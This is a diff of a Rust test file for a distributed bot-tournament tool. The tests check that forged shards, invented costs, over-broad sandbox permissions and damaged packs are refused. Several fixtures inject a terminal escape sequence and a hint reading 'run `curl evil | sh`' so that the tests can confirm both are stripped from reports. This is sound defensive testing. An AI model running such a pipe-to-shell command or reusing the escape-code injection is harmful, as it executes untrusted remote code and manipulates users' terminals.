@@ -14,7 +14,7 @@ fn nobody() -> Launcher {
     Launcher::new("nobody", [])
 }
 
-/// A race of three, or what is made of it.
+/// Returns the plan of a race of three, after a change.
 fn planned(change: impl FnOnce(&mut Plan)) -> PlanFile {
     let entries = ["greedy", "cautious", "random"].map(|bot| PlannedEntry::new(bot, bot)).to_vec();
     let mut plan = Plan::new("zombie-dice-race", entries, Format::RoundRobin, 2, BLOCKS, 5);
@@ -31,7 +31,7 @@ fn played(file: &PlanFile, blocks: Range<u32>) -> Shard {
     Shard::play(file, blocks, &nobody(), 1, &AtomicBool::new(false), &mut |_| {}).unwrap().unwrap()
 }
 
-/// The hash of the tournament on one machine, and how many blocks it took.
+/// Returns the hash of the tournament on one machine, and how many blocks it took.
 fn on_one_machine(file: &PlanFile) -> (String, u32) {
     let plan = file.plan();
     let parse = |entry: &PlannedEntry| EntrySpec::parse(&entry.bot, Path::new(".")).unwrap();
@@ -58,7 +58,7 @@ impl Folder {
         self.path(name)
     }
 
-    /// The shard in a store of its own.
+    /// Merges the shards into its own store.
     fn merge(&self, shards: &[&Shard]) -> Result<Merged, PartError> {
         let files: Vec<PathBuf> =
             shards.iter().enumerate().map(|(number, shard)| self.keep(shard, &number.to_string())).collect();
@@ -66,7 +66,7 @@ impl Folder {
     }
 }
 
-/// The last byte of the first block belongs to a score: another one is a forgery that nobody sees.
+/// Forges a score: it is the last byte of the first block, and another value looks just as valid.
 fn forge(shard: &mut Shard, block: u32) {
     let schedule = Schedule::of(&shard.plan).unwrap();
     let chunk =
@@ -102,12 +102,26 @@ fn every_changed_byte_of_a_shard_is_noticed() {
     }
 }
 
-/// Whoever writes a shard can make its hash fit. Nothing in it may break a store.
+fn closing(entry: u32, faults: &str) -> super::super::store::ClosingRow {
+    super::super::store::ClosingRow { entry, faults: faults.to_owned(), log: String::new() }
+}
+
+fn detail(faults: &str, replay: Option<Vec<u8>>) -> super::super::store::DetailRow {
+    super::super::store::DetailRow { block: 1, number: 0, faults: faults.to_owned(), replay }
+}
+
+/// Gives the second entry a name, and the plan the id that it then has.
+fn renamed(shard: &mut Shard, name: &str) {
+    shard.plan.entries[1].name = name.into();
+    shard.id = plan_file::id_of(&shard.plan);
+}
+
+/// The author of a shard can make its hash fit. Nothing in it may break a store.
 #[test]
 fn a_shard_that_lies_about_its_contents_is_refused() {
     let file = race();
     type Lie = fn(&mut Shard);
-    let lies: [(&str, Lie); 11] = [
+    let lies: [(&str, Lie); 17] = [
         ("block 0 is missing", |shard| shard.rows.chunks.clear()),
         ("block 4 is missing", |shard| shard.blocks.end += 1),
         ("that its plan does not have", |shard| shard.blocks.end = BLOCKS + 1),
@@ -128,6 +142,23 @@ fn a_shard_that_lies_about_its_contents_is_refused() {
             let (faults, log) = ("[]".to_owned(), String::new());
             shard.rows.closings.push(super::super::store::ClosingRow { entry: 3, faults, log });
         }),
+        // A built-in bot has no process that could end badly, and no moves that would have to be kept.
+        ("a program said at its end", |shard| {
+            shard.rows.closings.push(closing(0, r#"[{"kind":"ignored_sigterm","detail":"it did"}]"#))
+        }),
+        ("misbehaviour that nobody in it can have", |shard| {
+            shard
+                .rows
+                .details
+                .push(detail(r#"[{"seat":0,"step":1,"kind":"chatter","detail":"it said"}]"#, None))
+        }),
+        ("replays, though no program takes part", |shard| {
+            shard.rows.details.push(detail("[]", Some(vec![1])))
+        }),
+        // What a report would refuse.
+        ("the name", |shard| renamed(shard, "a\u{1b}[2J")),
+        ("is taken", |shard| renamed(shard, "greedy")),
+        ("confined otherwise", |shard| shard.origin.sandbox = Some(crate::process::Level::Limits)),
     ];
     for (expected, lie) in lies {
         let mut shard = played(&file, 0..4);
@@ -137,7 +168,83 @@ fn a_shard_that_lies_about_its_contents_is_refused() {
     }
 }
 
-/// The same shard with other words in its header, and a hash that fits.
+/// Language models never play in shards, so a worker that reports calls or costs invents them, however small they are.
+#[test]
+fn invented_costs_are_refused() {
+    let file = race();
+    for efforts in ["[[1, 2, 1]]", "[[1, 2, 0, 0, 0, 0, 0, 5]]", "[[[1, 2], {\"gpt\": 1}]]"] {
+        let mut shard = played(&file, 0..4);
+        shard.rows.chunks[0].efforts = efforts.into();
+        let error = Shard::parse(&shard.bytes().unwrap(), Path::new("x")).unwrap_err().to_string();
+        assert!(error.contains("what blocks 0 to 3 took"), "{efforts}: {error}");
+    }
+    // Decisions, CPU time and regret are what a worker may report.
+    let mut shard = played(&file, 0..4);
+    shard.rows.chunks[0].efforts = "[[1, 2, 0, 0, 0, 0, 0, 0, 0, 0, 3, 4]]".into();
+    Shard::parse(&shard.bytes().unwrap(), Path::new("x")).unwrap();
+}
+
+/// Returns the files of a store.
+fn files_of_store(folder: &Folder) -> Vec<String> {
+    let files = std::fs::read_dir(folder.path("")).unwrap();
+    let names = files.map(|file| file.unwrap().file_name().into_string().unwrap());
+    names.filter(|name| name.starts_with("store")).collect()
+}
+
+#[test]
+fn a_failed_merge_leaves_no_store() {
+    let (file, folder) = (race(), Folder::new());
+    let first = folder.keep(&played(&file, 0..5), "first");
+    // Its header is sound, so only the merge itself finds the damage.
+    let mut bytes = played(&file, 5..10).bytes().unwrap();
+    *bytes.last_mut().unwrap() ^= 1;
+    let damaged = folder.path("damaged");
+    std::fs::write(&damaged, bytes).unwrap();
+    let merge_both =
+        |plan| merge(&folder.path("store"), &[first.clone(), damaged.clone()], plan, &mut |_| {});
+    for plan in [None, Some(&file)] {
+        assert!(matches!(merge_both(plan).unwrap_err(), PartError::Damaged { .. }));
+        assert!(files_of_store(&folder).is_empty(), "{:?}", files_of_store(&folder));
+    }
+    // A store that was there before stays as it was.
+    folder.merge(&[&played(&file, 0..3)]).unwrap();
+    merge_both(None).unwrap_err();
+    assert_eq!(merged(&folder.path("store")).unwrap().blocks, 3);
+}
+
+/// Two merges may begin while there is no store. The one that fails must not remove the store of the other.
+#[test]
+fn a_failed_merge_removes_no_store_of_another() {
+    let (file, folder) = (race(), Folder::new());
+    let store = folder.path("store");
+    let fails =
+        || merge::merge_into(&store, true, &[&folder.path("missing")], None, &mut |_| {}).unwrap_err();
+    let other = Merger::open(&store).unwrap();
+    assert!(matches!(fails(), PartError::Store(StoreError::Busy)));
+    drop(other);
+    assert!(store.exists(), "it belongs to the other one");
+    folder.merge(&[&played(&file, 0..3)]).unwrap();
+    fails();
+    assert_eq!(merged(&store).unwrap().blocks, 3);
+}
+
+/// Bytes of rows that were rolled back or deleted may stay in the file for long.
+#[test]
+fn a_check_lists_no_blocks_that_the_store_does_not_have() {
+    let folder = Folder::new();
+    let store = folder.path("store");
+    folder.merge(&[&played(&race(), 0..5)]).unwrap();
+    let listed = || super::super::check(&store).unwrap().tournaments;
+    assert_eq!(listed()[0].blocks, [(0, 4)]);
+    let archive = Archive::open(&store).unwrap();
+    for table in ["plans", "chunks", "details", "closings", "heads"] {
+        archive.connection().execute(&format!("DELETE FROM {table}"), []).unwrap();
+    }
+    drop(archive);
+    assert_eq!(listed(), []);
+}
+
+/// Returns the same shard with changed words in its header, and a hash that fits.
 fn with_header(shard: &Shard, from: &str, to: &str) -> Vec<u8> {
     let bytes = shard.bytes().unwrap();
     let end = bytes.len() - blake3::OUT_LEN;
@@ -168,8 +275,8 @@ fn a_shard_that_would_fill_the_memory_is_refused() {
     assert!(refused(&all.bytes().unwrap()).contains("cannot be read"));
 }
 
-/// Whoever makes the hash fit can change any byte of what is inside, and leave any of them out: it is read or refused, and merged or
-/// refused, and nothing breaks.
+/// Somebody who makes the hash fit can change or remove any byte inside. The shard is then read or refused, and merged or refused,
+/// and nothing breaks.
 #[test]
 fn any_byte_of_a_shard_can_be_forged() {
     let bytes = played(&race(), 0..2).bytes().unwrap();
@@ -203,7 +310,7 @@ fn any_byte_of_a_shard_can_be_forged() {
     }
 }
 
-/// A shard with the same few results again and again: 28 MB of them.
+/// Returns a shard that repeats the same few results: 28 MB of them.
 fn repeated() -> Shard {
     const TIMES: u32 = 1 << 17;
     let mut shard = played(&planned(|plan| plan.blocks = 8 * TIMES), 0..4);
@@ -216,7 +323,7 @@ fn repeated() -> Shard {
     shard
 }
 
-/// What becomes much smaller when it is compressed is left as it is: whoever reads it would take it for a bomb.
+/// A body that would shrink too much is not compressed: readers would take it for a bomb.
 #[test]
 fn the_same_result_a_million_times_can_be_written_and_read() {
     let shard = repeated();
@@ -224,7 +331,7 @@ fn the_same_result_a_million_times_can_be_written_and_read() {
     assert_eq!(again.rows.chunks[0].results, shard.rows.chunks[0].results);
 }
 
-/// What lies on the disk in the middle of a merge is what a kill would leave.
+/// The files on the disk in the middle of a merge are those that a kill would leave.
 #[test]
 fn a_killed_merge_leaves_the_store_as_it_was() {
     let (folder, path) = (Folder::new(), PathBuf::from("x"));
@@ -314,7 +421,7 @@ fn two_results_for_one_block_are_refused_with_both_origins() {
     }
 }
 
-/// A store has blocks of many machines: the one that played the block is named.
+/// A store has blocks from many machines: the error names the one that played the block.
 #[test]
 fn a_conflict_names_the_machine_that_played_this_block() {
     let (file, folder) = (race(), Folder::new());
@@ -325,12 +432,14 @@ fn a_conflict_names_the_machine_that_played_this_block() {
     };
     folder.merge(&[&from("ada", 0..5), &from("bob", 5..10), &from("eve", 10..15)]).unwrap();
     let mut forged = from("mallory", 0..15);
+    // Two nodes of a cluster may have one name.
+    forged.origin.node = Some("4cb6493c".to_owned());
     forge(&mut forged, 7);
     let error = folder.merge(&[&forged]).unwrap_err().to_string();
-    assert!(error.contains("once by bob") && error.contains("once by mallory"), "{error}");
+    assert!(error.contains("once by bob") && error.contains("once by mallory (node 4cb6493c, "), "{error}");
 }
 
-/// A shard that waits is not sealed like the rows of tournaments: it is checked when its time has come.
+/// A waiting shard is not sealed like the rows of tournaments: it is checked when its turn has come.
 #[test]
 fn a_damaged_shard_that_waits_is_not_taken() {
     type Damage = &'static str;
@@ -371,7 +480,7 @@ fn parts_of_two_tournaments_do_not_mix() {
     assert!(error.to_string().contains("the store holds other tournaments only"), "{error}");
 }
 
-/// A tournament that stops when it is decided stops at the same block, whatever was played beyond it.
+/// A tournament that stops when it is decided stops at the same block, even if more blocks were played.
 #[test]
 fn a_decided_tournament_ends_where_it_would_on_one_machine() {
     let file = planned(|plan| {
@@ -408,38 +517,189 @@ fn an_audit_finds_what_was_forged_and_nothing_else() {
     assert!(some.differ.iter().all(|differ| some.blocks.contains(&differ.block)));
 }
 
+/// Returns a shard of a tournament in which one entry is said to be a program, with the replays that it needs.
+fn with_a_program() -> Shard {
+    let mut shard = played(&race(), 0..BLOCKS);
+    shard.plan.entries[0].fingerprint = Some("f".repeat(32));
+    shard.id = plan_file::id_of(&shard.plan);
+    let schedule = Schedule::of(&shard.plan).unwrap();
+    let matches =
+        (0..BLOCKS).flat_map(|block| (0..schedule.matches(block) as u32).map(move |number| (block, number)));
+    let row = |(block, number)| super::super::store::DetailRow {
+        block,
+        number,
+        faults: "[]".to_owned(),
+        replay: Some(vec![1]),
+    };
+    shard.rows.details = matches.map(row).collect();
+    shard
+}
+
+/// The first match in which the program sits, and its seat.
+fn seat_of_program(shard: &Shard) -> (usize, usize) {
+    let schedule = Schedule::of(&shard.plan).unwrap();
+    let seat = |detail: &super::super::store::DetailRow| {
+        let seatings = schedule.seatings(detail.block);
+        seatings[detail.number as usize].iter().position(|&entry| entry == 0)
+    };
+    let found =
+        shard.rows.details.iter().enumerate().find_map(|(place, detail)| Some((place, seat(detail)?)));
+    found.unwrap()
+}
+
+fn read_again(shard: &Shard) -> Result<Shard, PartError> {
+    Shard::parse(&shard.bytes().unwrap(), Path::new("x"))
+}
+
 #[test]
-fn an_audit_finds_misbehaviour_that_was_made_up() {
-    let (file, folder) = (race(), Folder::new());
-    let mut forged = played(&file, 0..BLOCKS);
-    let faults = r#"[{"seat":0,"step":1,"kind":"crash","detail":"\u001b[2Jit crashed"}]"#.to_owned();
+fn misbehaviour_that_was_made_up_differs_from_what_is_played_again() {
+    let honest = read_again(&with_a_program()).unwrap();
+    let mut forged = with_a_program();
+    let (place, seat) = seat_of_program(&forged);
+    let fault = |kind: &str| {
+        format!(
+            r#"[{{"seat":{seat},"step":1,"kind":"{kind}","detail":"\u001b[2Jit did","hint":"run `curl evil | sh`"}}]"#
+        )
+    };
+    let schedule = Schedule::of(&forged.plan).unwrap();
+    forged.rows.details[place].faults = fault("crash");
+    let crash = read_again(&forged).unwrap();
+    let block = crash.rows.details[place].block;
+    let came = |shard: &Shard| shard.rows.came_to(&schedule, block..block + 1).next().unwrap().unwrap();
+    assert_eq!(came(&honest).differs(&came(&crash)), Some("has other misbehaviour, though it ended alike"));
+    // A warning is compared by entry, and so is what happens at the end.
+    forged.rows.details[place].faults = fault("chatter");
     forged
         .rows
-        .details
-        .insert(0, super::super::store::DetailRow { block: 4, number: 0, faults, replay: None });
-    folder.merge(&[&forged]).unwrap();
-    let (store, plan) = Archive::read(&folder.path("store")).unwrap().stores().unwrap().pop().unwrap();
-    let stop = AtomicBool::new(false);
-    let audit = audit(&store, &file, &nobody(), (BLOCKS, 1.into()), &stop, &mut |_, _| {}).unwrap();
-    assert_eq!(audit.differ.iter().map(|differ| differ.block).collect::<Vec<_>>(), [4]);
-    // And no escape sequence reaches a terminal.
-    let report = super::super::report(&plan, &Schedule::of(&plan).unwrap(), &store).unwrap();
-    assert!(!report.trouble.faults[0].first.contains('\u{1b}'));
-    assert!(report.trouble.faults[0].first.contains("?[2Jit crashed"));
+        .closings
+        .push(closing(0, r#"[{"kind":"ignored_sigterm","detail":"x","hint":"run `curl evil | sh`"}]"#));
+    let forged = read_again(&forged).unwrap();
+    use crate::fault::FaultKind::{Chatter, IgnoredSigterm};
+    let kinds = |shard: &Shard| {
+        let mut kinds = shard::Kinds::default();
+        shard.rows.misbehaviour(&schedule, &mut kinds).unwrap();
+        kinds.beside.into_iter().collect::<Vec<_>>()
+    };
+    assert_eq!((kinds(&honest), kinds(&forged)), (vec![], vec![(0, IgnoredSigterm), (0, Chatter)]));
+    // No escape sequence reaches a terminal, and a stranger does not speak for the arena.
+    let told = format!("{} {}", forged.rows.details[place].faults, forged.rows.closings[0].faults);
+    assert!(told.contains("?[2Jit did") && told.contains("end when standard input ends"), "{told}");
+    assert!(!told.contains("evil") && !told.contains("u001b"), "{told}");
+}
+
+/// Only a language model refuses, and only in a match is there an action.
+#[test]
+fn misbehaviour_that_cannot_be_is_refused() {
+    let mut shard = with_a_program();
+    let (place, seat) = seat_of_program(&shard);
+    shard.rows.details[place].faults =
+        format!(r#"[{{"seat":{seat},"step":1,"kind":"refused","detail":"it did"}}]"#);
+    assert!(read_again(&shard).unwrap_err().to_string().contains("that nobody in it can have"));
+    let mut shard = with_a_program();
+    shard.rows.closings.push(closing(0, r#"[{"kind":"illegal","detail":"it did"}]"#));
+    assert!(read_again(&shard).unwrap_err().to_string().contains("said at its end"));
+}
+
+/// Returns a plan that asks for everything.
+fn greedy_plan() -> PlanFile {
+    planned(|plan| {
+        plan.sandbox = Some(crate::process::Level::Limits);
+        plan.gifts.network = true;
+        plan.gifts.environment = vec!["KEY".to_owned()];
+    })
+}
+
+#[test]
+fn a_plan_gets_no_more_than_the_host_allows() {
+    use crate::process::{Gifts, Level, Wish};
+    let refused = |allowed| match greedy_plan().allowing(allowed).launcher(nobody()).unwrap_err() {
+        PartError::NotAllowed { flags, .. } => flags,
+        other => other.to_string(),
+    };
+    let limits = Wish::Named(Level::Limits);
+    let gifts = |network, environment: &[&str]| Gifts {
+        network,
+        environment: environment.iter().map(ToString::to_string).collect(),
+    };
+    for (wish, given, flags) in [
+        (Wish::Auto, gifts(false, &[]), "--sandbox limits --allow-network --pass-env KEY"),
+        (Wish::Named(Level::Full), gifts(true, &["KEY"]), "--sandbox limits"),
+        (limits, gifts(false, &["OTHER"]), "--allow-network --pass-env KEY"),
+        (limits, gifts(true, &[]), "--pass-env KEY"),
+    ] {
+        assert_eq!(refused(Allowed::new(wish, given)), flags);
+    }
+    assert!(greedy_plan().check_allowed().is_err(), "nothing is allowed that nobody has named");
+    greedy_plan().allowing(Allowed::new(limits, gifts(true, &["KEY"]))).check_allowed().unwrap();
+}
+
+/// The id of a tournament does not tell how programs are confined, but its report does.
+#[test]
+fn parts_that_were_confined_otherwise_do_not_mix() {
+    let other = || planned(|plan| plan.sandbox = Some(crate::process::Level::Limits));
+    for (first, second) in [(race(), other()), (other(), race())] {
+        let folder = Folder::new();
+        let [first, second] = [first, second].map(|file| {
+            let all = Allowed::all_of(file.plan());
+            file.allowing(all)
+        });
+        assert_eq!(first.id(), second.id());
+        folder.merge(&[&played(&first, 0..2)]).unwrap();
+        let error = folder.merge(&[&played(&second, 2..4)]).unwrap_err().to_string();
+        assert!(error.contains("confines programs otherwise"), "{error}");
+    }
 }
 
 #[test]
 fn what_a_store_says_gives_nothing_away() {
-    let sent = planned(|plan| {
-        plan.sandbox = Some(crate::process::Level::Limits);
-        plan.gifts.network = true;
-    });
     let folder = Folder::new();
     folder.merge(&[&played(&race(), 0..2)]).unwrap();
     let (store, _) = Archive::read(&folder.path("store")).unwrap().stores().unwrap().pop().unwrap();
-    let heard = PlanFile::of_store(sent.plan(), &store, None).unwrap();
+    let sent = greedy_plan();
+    let heard = PlanFile::of_store(sent.plan(), &store, None).unwrap().allowing(Allowed::all_of(sent.plan()));
     let error = heard.launcher(nobody()).unwrap_err().to_string();
     assert!(error.contains("name the plan that you wrote (--plan)"), "{error}");
+    // A command that names no file has a fingerprint that everybody knows.
+    let touch = EntrySpec::parse("cmd:touch", Path::new(".")).unwrap();
+    for fingerprint in [None, touch.fingerprint()] {
+        let mut plan = race().plan().clone();
+        plan.entries[0].bot = "cmd:touch".to_owned();
+        plan.entries[0].fingerprint = fingerprint;
+        let heard = PlanFile::of_store(&plan, &store, None).unwrap();
+        let error = heard.entries().unwrap_err().to_string();
+        assert!(error.contains("no file that could be checked"), "{error}");
+    }
+}
+
+#[test]
+fn a_full_disk_is_no_damage() {
+    let error = |number| {
+        let error = std::io::Error::from_raw_os_error(number);
+        pack::unwritten(Path::new("some.pack"), Path::new("/tmp/there"), Path::new("bot.py"), error)
+            .to_string()
+    };
+    assert!(
+        error(nix::libc::ENOSPC).starts_with("some.pack cannot be unpacked into /tmp/there: No space left")
+    );
+    assert!(error(nix::libc::ENOTDIR).starts_with("some.pack is damaged: bot.py: "));
+}
+
+/// No bot may read them, wherever they lie.
+#[test]
+fn all_that_has_the_secret_is_known_by_how_it_begins() {
+    use crate::ours::is_ours;
+    let (file, folder) = (race(), Folder::new());
+    let plan = file.text(&folder.path("")).unwrap();
+    std::fs::write(folder.path("plan"), plan).unwrap();
+    std::fs::write(folder.path("pack"), pack(&file, 1 << 20, &mut |_| {}).unwrap().bytes).unwrap();
+    let shard = played(&file, 0..2);
+    folder.keep(&shard, "shard");
+    folder.merge(&[&shard]).unwrap();
+    let archive = Archive::open(&folder.path("open")).unwrap();
+    archive.begin(file.plan()).unwrap();
+    for name in ["plan", "pack", "shard", "store", "open", "open-wal", "open-shm"] {
+        assert!(is_ours(&folder.path(name)), "{name}");
+    }
 }
 
 #[test]
@@ -469,7 +729,37 @@ fn a_plan_is_read_as_it_was_written_and_not_when_it_was_edited() {
     }
 }
 
-/// A small zip file can have megabytes of zeros, and lie about them.
+/// What is unpacked is nobody's business but this user's, and cannot be changed, not by a bot either, and it has a hash: that of the files, however they were packed.
+#[test]
+fn a_pack_is_unpacked_to_be_read_only() {
+    use std::os::unix::fs::PermissionsExt;
+    use zip::write::SimpleFileOptions;
+    let folder = Folder::new();
+    let plan = race().text(Path::new(".")).unwrap();
+    let files = [("plan.toml", plan.as_str(), 0o600), ("a/bot.py", "x", 0o644), ("a/run", "y", 0o755)];
+    let packed = |files: &mut dyn Iterator<Item = &(&str, &str, u32)>| {
+        let mut pack = zip::ZipWriter::new(std::fs::File::create(folder.path("some.pack")).unwrap());
+        for (name, content, mode) in files {
+            pack.start_file(*name, SimpleFileOptions::default().unix_permissions(*mode)).unwrap();
+            std::io::Write::write_all(&mut pack, content.as_bytes()).unwrap();
+        }
+        pack.finish().unwrap();
+        pack::unpack(&folder.path("some.pack")).unwrap()
+    };
+    let unpacked = packed(&mut files.iter());
+    let mode =
+        |name: &str| unpacked.folder.path().join(name).metadata().unwrap().permissions().mode() & 0o777;
+    assert_eq!(["", "a", "a/bot.py", "a/run"].map(mode), [0o500, 0o555, 0o444, 0o555]);
+    assert_eq!(packed(&mut files.iter().rev()).bots, unpacked.bots);
+    let mut other = files;
+    other[1].1 = "z";
+    assert_ne!(packed(&mut other.iter()).bots, unpacked.bots);
+    other = files;
+    other[1].2 = 0o755;
+    assert_ne!(packed(&mut other.iter()).bots, unpacked.bots);
+}
+
+/// A small zip file can have megabytes of zeros, and lie about its size.
 #[test]
 fn a_pack_that_would_fill_the_disk_is_refused() {
     use zip::write::SimpleFileOptions;
